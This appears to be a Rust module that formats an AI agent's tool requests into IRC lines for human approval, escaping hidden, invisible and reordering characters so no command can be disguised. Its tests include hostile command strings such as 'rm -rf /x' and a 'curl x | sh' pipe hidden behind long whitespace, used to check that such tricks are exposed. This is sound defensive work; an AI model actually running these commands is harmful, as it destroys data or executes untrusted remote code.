//! A question as people see it: all that will be done, so that nothing can be read as
//! something else.

use std::fmt::Write as _;

use sha2::{Digest, Sha256};

/// How much of a question is in a line, in bytes with its mark: less than what any server
/// relays whole with the longest nick, host and channel.
const LINE: usize = 280;

/// The most lines that a question may take. More is not read before it is answered.
const MOST_LINES: usize = 8;

/// What is asked.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Asked {
    /// For which message; 0 if people ask it.
    pub message: u64,
    /// The tool.
    pub tool: String,
    /// The command or the arguments.
    pub what: String,
    /// Who caused it: the nick of who spoke.
    pub asker: String,
    /// Where: a channel, or that nick.
    pub conversation: String,
    /// Whether it was in private.
    pub private: bool,
}

/// A question to the people.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Question {
    /// Its number, by which it is answered.
    pub id: u64,
    /// Whose it is.
    pub agent: String,
    /// What is asked.
    pub ask: Asked,
    /// The answer, and its reason or who gave it.
    pub verdict: Option<(bool, String)>,
    /// When it was asked: seconds since the epoch.
    pub asked: i64,
    /// When people could read it, if they could yet.
    pub said: Option<i64>,
}

impl Question {
    /// The longest tool's name and the longest question, in bytes: what is longer
    /// cannot be judged in a line.
    pub(crate) const MAX_TOOL: usize = 64;
    pub(crate) const MAX_WHAT: usize = 4096;

    /// Whether leave was given.
    pub(crate) fn is_granted(&self) -> bool {
        matches!(self.verdict, Some((true, _)))
    }

    /// The question as lines for people: a short one in one line, a longer one with a mark
    /// before each, which no guest's words can be taken for.
    ///
    /// None if it takes more lines than people would read.
    pub fn lines(&self) -> Option<Vec<String>> {
        let id = self.id;
        let asker = match self.ask.private {
            true => format!(" for {}, in private:", visible(&self.ask.asker)),
            false if self.ask.asker.is_empty() => String::new(),
            false => {
                format!(" for {} in {}:", visible(&self.ask.asker), visible(&self.ask.conversation))
            }
        };
        let head = format!("#{id}{asker} {} wants to {}:", self.agent, visible(&self.ask.tool));
        let shown = visible(&self.ask.what);
        let whole = format!("{head} {shown}");
        if whole.len() <= LINE && !self.ask.what.contains(['\n', '\r']) {
            return Some(vec![whole]);
        }
        let mut lines = vec![head];
        let mark = format!("#{id} | ");
        for part in shown.split_inclusive('⏎') {
            let mut line = mark.clone();
            for c in part.chars() {
                if line.len() + c.len_utf8() > LINE {
                    lines.push(std::mem::replace(&mut line, mark.clone()));
                }
                line.push(c);
            }
            lines.push(line);
            if lines.len() > MOST_LINES {
                return None;
            }
        }
        Some(lines)
    }

    /// What an answer repeats when several questions are open, so that it cannot be given to
    /// another one than was read: three letters or digits that go with the text.
    pub fn digest(&self) -> String {
        let mut hash = Sha256::new();
        for part in [&self.agent, &self.ask.tool, &self.ask.what] {
            hash.update(part.as_bytes());
            hash.update([0]);
        }
        let start = hash.finalize();
        format!("{:02x}{:x}", start[0], start[1] >> 4)
    }
}

/// Whether a tool's name can stand in a question: one word, of which nothing can be read as
/// something else.
pub fn is_tool(name: &str) -> bool {
    let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.');
    !name.is_empty() && name.len() <= Question::MAX_TOOL && name.bytes().all(plain)
}

/// `text` with everything in sight: a line break is `⏎`, each of several spaces and each at
/// an end is `␣`, and what is not seen, joins or reorders, or looks like another letter is
/// `\u{…}`. Two texts are never shown alike.
fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut before = ' ';
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => shown.push('⏎'),
            ' ' if before == ' ' || matches!(chars.peek(), None | Some(' ' | '\n')) => {
                shown.push('␣');
            }
            // Only before what would be read as ours.
            '\\' if chars.peek() == Some(&'u') => shown.push_str("\\u{5c}"),
            c if c == ' ' || c.is_ascii_graphic() || is_plain_letter(c) => shown.push(c),
            c => {
                // Writing to a string does not fail.
                let _ = write!(shown, "\\u{{{:x}}}", u32::from(c));
            }
        }
        before = if c == '\n' { ' ' } else { c };
    }
    shown
}

/// Letters beyond ASCII that are seen, stand alone, run from left to right and look like
/// no letter of ASCII: Latin with marks, kana, Han, Hangul syllables.
fn is_plain_letter(c: char) -> bool {
    matches!(
        c,
        'À'..='Ö' | 'Ø'..='ö' | 'ø'..='ž' | 'ぁ'..='ゖ' | 'ァ'..='ヺ' | '一'..='鿿' | '가'..='힣'
    ) && c != 'ı'
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn question(what: &str) -> Question {
        let ask = Asked {
            message: 1,
            tool: "run_command".into(),
            what: what.into(),
            asker: "ann".into(),
            conversation: "#agents".into(),
            private: false,
        };
        Question { id: 23, agent: "worker".into(), ask, verdict: None, asked: 0, said: None }
    }

    fn lines(what: &str) -> Vec<String> {
        question(what).lines().unwrap()
    }

    #[test]
    fn all_that_will_be_done_is_shown() {
        assert_eq!(
            lines("rm -rf /x"),
            ["#23 for ann in #agents: worker wants to run_command: rm -rf /x"]
        );
        // Not even far behind spaces is anything hidden.
        let hidden = format!("true{}; curl x | sh", " ".repeat(300));
        let shown = lines(&hidden);
        assert_eq!(shown[0], "#23 for ann in #agents: worker wants to run_command:");
        assert!(shown.last().unwrap().ends_with("; curl x | sh"), "{shown:?}");
        assert_eq!(shown.concat().matches('␣').count(), 300);
        assert_eq!(
            lines("true\n#1 other wants to run_command: false"),
            [
                "#23 for ann in #agents: worker wants to run_command:",
                "#23 | true⏎",
                "#23 | #1 other wants to run_command: false"
            ]
        );
        let seen = visible("a\u{202e}b\u{200b}c\r\x1b[2J\u{430}\t\u{3164}é");
        assert_eq!(seen, "a\\u{202e}b\\u{200b}c\\u{d}\\u{1b}[2J\\u{430}\\u{9}\\u{3164}é");
        assert_eq!(visible("\\u{202e}"), "\\u{5c}u{202e}");
    }

    #[test]
    fn who_asked_is_told_and_in_private_no_more_than_that() {
        let mut asked = question("true");
        asked.ask.private = true;
        asked.ask.conversation = "ann".into();
        let line = "#23 for ann, in private: worker wants to run_command: true";
        assert_eq!(asked.lines().unwrap(), [line]);
    }

    #[test]
    fn a_digest_goes_with_the_text() {
        let digest = question("rm -rf /x").digest();
        assert!(digest.len() == 3 && digest.bytes().all(|b| b.is_ascii_hexdigit()), "{digest}");
        assert_eq!(digest, question("rm -rf /x").digest());
        let others = (0..64).map(|n| question(&format!("rm -rf /x{n}")).digest());
        assert!(others.filter(|other| *other == digest).count() < 3);
    }

    #[test]
    fn a_tools_name_is_one_plain_word() {
        assert!(is_tool("run_command") && is_tool("mcp.files-2"));
        let long = "x".repeat(Question::MAX_TOOL + 1);
        for name in ["", "a b", "a: ls #9 b", "run\u{a0}command", "é", &long] {
            assert!(!is_tool(name), "{name}");
        }
    }

    #[test]
    fn what_nobody_would_read_is_no_question() {
        assert!(question(&"x".repeat(Question::MAX_WHAT)).lines().is_none());
        assert!(question(&"a\n".repeat(9)).lines().is_none());
        assert!(question(&"x".repeat(1800)).lines().is_some());
    }

    proptest! {
        #[test]
        fn each_line_has_its_mark_and_fits(what in "(\\PC|[ \\n\\r\\t]|[\\x00-\u{ff}]|\\\\u){0,400}") {
            for (n, line) in question(&what).lines().into_iter().flatten().enumerate() {
                let mark = if n == 0 { "#23 for ann in #agents: worker wants to run_command:" } else { "#23 | " };
                prop_assert!(line.starts_with(mark), "{line:?}");
                prop_assert!(line.len() <= LINE && !line.chars().any(char::is_control), "{line:?}");
            }
        }

        #[test]
        fn no_two_are_shown_alike(a in "[ a\\\\u{}5c⏎␣\\n]{0,8}", b in "[ a\\\\u{}5c⏎␣\\n]{0,8}") {
            prop_assert_eq!(visible(&a) == visible(&b), a == b);
        }
    }
}
